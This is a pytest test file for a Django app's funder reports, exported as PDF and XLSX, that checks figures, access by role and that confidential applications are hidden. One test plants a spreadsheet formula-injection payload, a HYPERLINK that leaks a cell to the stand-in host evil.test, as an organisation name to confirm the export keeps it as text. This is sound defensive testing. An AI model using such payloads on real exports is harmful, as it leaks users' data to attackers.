"""Reports for funders: the annual activity report and the configurable report, built in
the background as a PDF or an XLSX; a funder's report holds aggregates only."""

from __future__ import annotations

import datetime
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook

from clusterdesk.core.roles import Role
from clusterdesk.crm.models import Membership
from clusterdesk.jobs.models import Job
from clusterdesk.results.indicators import Scope, compute
from clusterdesk.results.models import Outcome
from clusterdesk.results.reports import access as report_access
from clusterdesk.results.reports import data as reports
from clusterdesk.results.reports import formatting
from clusterdesk.results.reports.pdf import report_html
from tests.conftest import Tenant, client_for
from tests.factories import OrganisationFactory, follow
from tests.results.test_indicators import labelled_project

D = datetime.date
SECRETS = ("SECRETA", "SECRETB", "SECRETC")  # acronyms of confidential applications


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def world(tenant_a: Tenant, tenant_b: Tenant) -> None:
    with scopes_disabled():
        a = tenant_a.cluster
        a.founded_year = 2005
        a.save(update_fields=["founded_year"])
        first = labelled_project(a, D(2010, 3, 1), 2_000_000, 800_000, "fui", SECRETS[0])
        labelled_project(a, D(2010, 9, 1), 1_000_000, 300_000, "region", SECRETS[1])
        labelled_project(a, D(2009, 6, 1), 4_000_000, 1_000_000, "anr", SECRETS[2])
        labelled_project(tenant_b.cluster, D(2010, 6, 1), 9_000_000, 4_000_000, acronym="BETA")
        for kind, extra in (
            ("patent", {"registry": "EPO", "reference": "EP9"}),
            ("jobs", {"fte": Decimal("4.5")}),
        ):
            Outcome.objects.create(
                cluster=a,
                application=first,
                kind=kind,
                date=D(2010, 5, 1),
                title=f"Confidential {kind} of {SECRETS[0]}",
                state="validated",
                **extra,
            )
        for n, kind in enumerate(("pme", "startup", "large_company")):
            org = follow(a, OrganisationFactory(name=f"Membre {n}", kind=kind))
            Membership.objects.create(cluster=a, organisation=org, year=2010, status="active")


def _english(client: Client) -> Client:
    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _run(client: Client, url: str, data: dict[str, Any], capture: Any) -> tuple[Job, bytes]:
    """Post the report form, let the background job run, download its result."""
    with capture(execute=True):
        response = client.post(url, data)
    assert response.status_code == 302, getattr(response, "context", None)
    with scopes_disabled():
        job = Job.objects.latest("pk")
    assert response.url == reverse(
        "backoffice:job", kwargs={"cluster_slug": job.cluster.slug, "pk": job.pk}
    )
    assert job.status == Job.Status.DONE, job.message
    page = client.get(response.url)
    assert page.status_code == 200
    download = reverse(
        "backoffice:job_download", kwargs={"cluster_slug": job.cluster.slug, "pk": job.pk}
    )
    assert download in page.content.decode()
    got = client.get(download)
    return job, b"".join(got.streaming_content)


def _cells(content: bytes) -> dict[str, list[tuple[Any, ...]]]:
    workbook = load_workbook(io.BytesIO(content))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets}


def _year_2010(tenant: Tenant) -> Scope:
    return Scope((tenant.cluster.pk,), D(2010, 1, 1), D(2010, 12, 31))


def test_annual_report_is_a_pdf_made_of_the_computed_key_figures(
    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
) -> None:
    client = _english(client_for(tenant_a.director))
    url = reverse("reports:annual", args=[tenant_a.cluster.slug])
    job, pdf = _run(
        client, url, {"year": 2010, "format": "pdf"}, django_capture_on_commit_callbacks
    )
    assert pdf.startswith(b"%PDF")
    assert job.kind == "results.report" and job.result_file.name.endswith(".pdf")
    assert "2010" in job.label
    # The HTML laid out in the PDF holds the values ``compute`` gives, in both years.
    with scope(cluster=tenant_a.cluster), translation.override("en"):
        now = compute(_year_2010(tenant_a))
        before = compute(reports.previous_scope(_year_2010(tenant_a)))
        report = reports.annual_report(
            cluster=tenant_a.cluster,
            year=2010,
            access=report_access.access_of(tenant_a.director, tenant_a.cluster),
        )
        html = report_html(report)
        figures = {f.name: f for f in report.figures}
        for name in ("projects_labelled", "public_aid_eur", "investment_eur", "jobs_created"):
            assert figures[name].value == now[name] and figures[name].previous == before[name]
            assert figures[name].text in html and figures[name].previous_text in html
        expected = [
            formatting.format_value(now["public_aid_eur"], "eur"),
            formatting.format_value(now["jobs_created"], "fte"),
        ]
    assert now["projects_labelled"] == 2 and before["projects_labelled"] == 1
    assert now["public_aid_eur"] == Decimal(1_100_000)
    for text in expected:
        assert text in html
    # Project staff read the projects labelled that year and the outcomes.
    assert SECRETS[0] in html and SECRETS[1] in html
    assert SECRETS[2] not in html  # labelled in 2009: a figure of the previous year only
    assert "<svg" in html and "Projects labelled in 2010" in html
    if shutil.which("pdftotext"):  # the PDF's own text, when poppler is installed
        text = subprocess.run(
            ["pdftotext", "-layout", "-", "-"], input=pdf, capture_output=True, check=True
        ).stdout.decode()
        assert "Annual activity report 2010" in text and SECRETS[0] in text


def test_annual_report_as_xlsx_has_each_table_on_its_own_sheet(
    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
) -> None:
    client = _english(client_for(tenant_a.people[Role.PROJECT_MANAGER]))
    url = reverse("reports:annual", args=[tenant_a.cluster.slug])
    _job, content = _run(
        client, url, {"year": 2010, "format": "xlsx"}, django_capture_on_commit_callbacks
    )
    sheets = _cells(content)
    assert list(sheets)[:3] == ["Report", "Key figures", "Yearly series"]
    for title in ("Public aid by funder", "Outcomes by kind (number declar", "Members by kind"):
        assert title in sheets, list(sheets)  # a sheet's name holds 31 characters at most
    figures = {row[1]: row for row in sheets["Key figures"][1:]}
    assert figures["projects_labelled"][2:4] == (2, 1)
    assert figures["public_aid_eur"][2] == 1_100_000
    series = {row[0]: row[1:] for row in sheets["Yearly series"][1:]}
    assert sheets["Yearly series"][0][-2:] == ("2009", "2010")
    assert series["Projects labelled"][-2:] == (1, 2)
    aid = {row[0]: row[1:] for row in sheets["Public aid by funder"][1:]}
    assert aid["FUI (State)"][0] == 800_000 and aid["Total"] == (1_100_000, 1_000_000)
    projects = sheets["Projects labelled in 2010"]
    assert projects[0][:2] == ("Acronym", "Title")
    assert sorted(r[0] for r in projects[1:]) == [SECRETS[0], SECRETS[1]]
    assert {r[0] for r in sheets["Members in 2010"][1:]} == {"Membre 0", "Membre 1", "Membre 2"}
    assert {r[0] for r in sheets["Outcomes validated in 2010"][1:]} == {
        "Patent filed",
        "Jobs created",
    }


def test_annual_report_as_xlsx_keeps_a_formula_like_name_as_text(
    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
) -> None:
    name = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    with scopes_disabled():
        org = follow(tenant_a.cluster, OrganisationFactory(name=name, kind="pme"))
        Membership.objects.create(
            cluster=tenant_a.cluster, organisation=org, year=2010, status="active"
        )
    client = _english(client_for(tenant_a.people[Role.PROJECT_MANAGER]))
    url = reverse("reports:annual", args=[tenant_a.cluster.slug])
    _job, content = _run(
        client, url, {"year": 2010, "format": "xlsx"}, django_capture_on_commit_callbacks
    )
    members = load_workbook(io.BytesIO(content))["Members in 2010"]
    cells = [row[0] for row in members.iter_rows(min_row=2)]
    assert name in [c.value for c in cells]
    workbook = load_workbook(io.BytesIO(content))
    assert not [
        c.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_funders_report_holds_aggregates_and_never_an_application(
    tenant_a: Tenant,
    world: None,
    region_funder: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    client = _english(client_for(region_funder))
    slug = tenant_a.cluster.slug
    page = client.get(reverse("reports:reports", args=[slug]))
    assert page.status_code == 200 and "lists" not in page.context["custom_form"].fields
    annual = reverse("reports:annual", args=[slug])
    _job, pdf = _run(
        client, annual, {"year": 2010, "format": "pdf"}, django_capture_on_commit_callbacks
    )
    assert pdf.startswith(b"%PDF")
    _job, xlsx = _run(
        client, annual, {"year": 2010, "format": "xlsx"}, django_capture_on_commit_callbacks
    )
    custom = reverse("reports:custom", args=[slug])
    _job, custom_xlsx = _run(
        client,
        custom,
        {
            "start": "2009-01-01",
            "end": "2010-12-31",
            "indicators": ["projects_labelled", "patents", "members"],
            "lists": "on",  # not offered to a funder, and ignored if sent
            "format": "xlsx",
        },
        django_capture_on_commit_callbacks,
    )
    with scope(cluster=tenant_a.cluster), translation.override("en"):
        access = report_access.access_of(region_funder, tenant_a.cluster)
        html = report_html(
            reports.annual_report(cluster=tenant_a.cluster, year=2010, access=access)
        )
        figures = compute(_year_2010(tenant_a), ["projects_labelled"])
    assert access.record_groups == frozenset()
    assert figures["projects_labelled"] == 2
    cells = [
        str(value)
        for content in (xlsx, custom_xlsx)
        for rows in _cells(content).values()
        for row in rows
        for value in row
    ]
    for secret in SECRETS:
        assert secret not in html
        assert not [c for c in cells if secret in c]
    assert "Membre 0" not in html and "Confidential" not in html
    assert "Figures only" in html
    assert set(_cells(custom_xlsx)) == {"Report", "Key figures", "Yearly series"}
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
        ).stdout.decode()
        assert "Key figures" in text
        assert not [s for s in SECRETS if s in text]


def test_configurable_report_holds_the_chosen_indicators_over_the_period(
    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
) -> None:
    client = _english(client_for(tenant_a.director))
    url = reverse("reports:custom", args=[tenant_a.cluster.slug])
    data = {
        "title": "Performance contract 2009-2010",
        "start": "2009-01-01",
        "end": "2010-12-31",
        "indicators": ["projects_labelled", "public_aid_eur", "aid_by_funder"],
        "lists": "on",
    }
    job, content = _run(client, url, data | {"format": "xlsx"}, django_capture_on_commit_callbacks)
    assert job.label.startswith("Performance contract 2009-2010")
    sheets = _cells(content)
    figures = {row[1]: row[2:4] for row in sheets["Key figures"][1:]}
    assert figures == {"projects_labelled": (3, 0), "public_aid_eur": (2_100_000, 0)}
    assert sheets["Key figures"][0][2:4] == ("2009\u20132010", "2007\u20132008")
    assert "Public aid by funder" in sheets
    assert sorted(r[0] for r in sheets["Projects labelled"][1:]) == sorted(SECRETS)
    assert not [t for t in sheets if "Members" in t or "Outcomes" in t]
    _job, pdf = _run(client, url, data | {"format": "pdf"}, django_capture_on_commit_callbacks)
    assert pdf.startswith(b"%PDF")
    # A period that ends before it starts, or no indicator: the form says so.
    bad = client.post(url, data | {"end": "2008-01-01", "format": "pdf"})
    assert bad.status_code == 400 and "end" in bad.context["custom_form"].errors
    none = client.post(url, data | {"indicators": [], "format": "pdf"})
    assert none.status_code == 400 and "indicators" in none.context["custom_form"].errors


def test_reports_need_the_indicators_permission_and_list_what_each_may_read(
    tenant_a: Tenant,
) -> None:
    url = reverse("reports:reports", args=[tenant_a.cluster.slug])
    assert client_for(tenant_a.people[Role.FINANCE]).get(url).status_code == 200
    for role in (Role.EXPERT, Role.MEMBER, Role.COMMITTEE_MEMBER):
        assert client_for(tenant_a.people[role]).get(url).status_code == 403, role
    cluster = tenant_a.cluster
    with scopes_disabled():
        finance = report_access.access_of(tenant_a.people[Role.FINANCE], cluster)
        manager = report_access.access_of(tenant_a.people[Role.PROJECT_MANAGER], cluster)
    # members, the events (finance invoices their fees) and the innovation centre's
    # statements, but no project
    assert finance.record_groups == {"members", "events", "facilities", "brokerage"}
    assert manager.record_groups == {"members", "projects", "outcomes", "support", "brokerage"}


def test_figures_compare_and_format_per_unit() -> None:
    with translation.override("en"):
        share = reports.Figure("sme_share", "SME share", "percent", 0.5, 0.4)
        aid = reports.Figure("public_aid_eur", "Aid", "eur", Decimal(1_500_000), Decimal(1_000_000))
        new = reports.Figure("patents", "Patents", "count", 3, 0)
        none = reports.Figure("label_rate", "Rate", "percent", None, 0.5)
        assert share.text == "50.0%" and share.trend == "up" and "10" in share.change_text
        assert aid.text == "€1,500,000" and aid.change_text == "+50%"
        assert new.change_text == "+3" and none.change_text == "\u2014" and none.trend == ""
        tiny = reports.Figure("leverage", "Leverage", "ratio", 2.511, 2.512)
        assert tiny.change_text == "\u00b10%" and tiny.trend == "down" and tiny.tone == "same"
        left = reports.Figure("members_left", "Left", "count", 6, 3)
        assert left.trend == "up" and left.tone == "bad" and share.tone == "good"
        assert reports.previous_scope(Scope((1,), D(2024, 1, 1), D(2024, 12, 31))).start == D(
            2023, 1, 1
        )
